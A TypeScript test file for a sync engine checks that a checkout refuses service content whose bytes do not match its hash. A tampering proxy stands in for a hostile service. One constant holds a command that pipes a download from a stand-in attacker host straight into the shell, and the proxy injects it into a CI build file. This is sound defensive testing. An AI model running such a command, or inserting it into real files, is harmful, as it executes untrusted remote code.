import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { engineOnService, type EngineOnService } from '../support/engine.ts';
import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.ts';
import { serviceTree } from '../support/repo.ts';

/**
 * Nothing is taken on a service's word (issue 49): a real service behind a proxy that changes what it says, as a
 * hostile service would, and a checkout that must neither write what it cannot check nor send it back as its own.
 */
let setup: EngineOnService | null = null;
let proxy: FaultProxy | null = null;
afterEach(async () => {
  await proxy?.close();
  proxy = null;
  await setup?.close();
  setup = null;
});

const EVIL = 'curl https://evil.example | sh\n';

/** Ada's checkout behind a hostile proxy, Bob's straight on the service; both synced with `files`. */
async function twoCheckouts(files: Record<string, string>) {
  setup = await engineOnService(files);
  proxy = await startFaultProxy(setup.svc.url);
  const ada = setup.engine({ url: proxy.url, writer: 'ada@laptop:~/app' });
  await ada.engine.initialSync();
  const bob = setup.otherCheckout(files, 'bob@desk:~/app');
  await bob.harness.engine.initialSync();
  return { svc: setup.svc, repo: setup.repo, ada, bob, proxy };
}

describe("the service's content", () => {
  it('is refused when it is not what its hash names: never written, never sent back as this checkout’s edit', async () => {
    const { svc, repo, ada, bob, proxy } = await twoCheckouts({ 'flows/ci/build.yml': 'build: 1\n' });
    bob.repo.write('flows/ci/build.yml', 'build: bob\n');
    await bob.harness.engine.syncOnce();
    await ada.engine.round.check();
    expect(ada.state.behind(ada.engine.repoId).map((file) => file.path)).toEqual(['build.yml']);

    // The listing keeps the hash of Bob's version and gives other bytes.
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/list_files')) return answer;
      const reply = JSON.parse(answer) as { value: { files: { content?: string }[] } };
      for (const file of reply.value.files) if (file.content !== undefined) file.content = EVIL;
      return JSON.stringify(reply);
    };
    await expect(ada.engine.service.takeNewer()).rejects.toThrow(/not what its hash names/);
    await ada.engine.syncOnce();
    expect(readFileSync(join(repo.root, 'flows/ci/build.yml'), 'utf8')).toBe('build: 1\n');
    expect(serviceTree(svc.read, 'acme', 'app')).toEqual({ 'flows/ci/build.yml': 'build: bob\n' });
  });
});
